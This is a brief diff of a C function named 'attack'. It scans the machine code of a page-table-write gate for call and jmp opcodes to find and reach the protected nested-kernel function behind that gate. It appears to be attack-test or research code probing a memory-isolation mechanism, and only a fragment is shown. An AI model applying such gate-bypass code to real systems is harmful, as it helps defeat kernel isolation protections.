@@ -8,12 +8,13 @@
 
 static long attack(struct attack_ctx *c)
 {
-	/* the gate's `call rel32` names the nk function behind it */
+	/* the gate's `call rel32; jmp rel32` (to the shared exit) names the
+	 * nk function behind it */
 	const uint8_t *p = (const uint8_t *)nk_write_pte;
 	int i = 0;
-	while (i < 96 && p[i] != 0xe8)
+	while (i < 192 && !(p[i] == 0xe8 && p[i + 5] == 0xe9))
 		i++;
-	if (i == 96)
+	if (i == 192)
 		return 0;
 	int32_t rel;
 	memcpy(&rel, p + i + 1, 4);
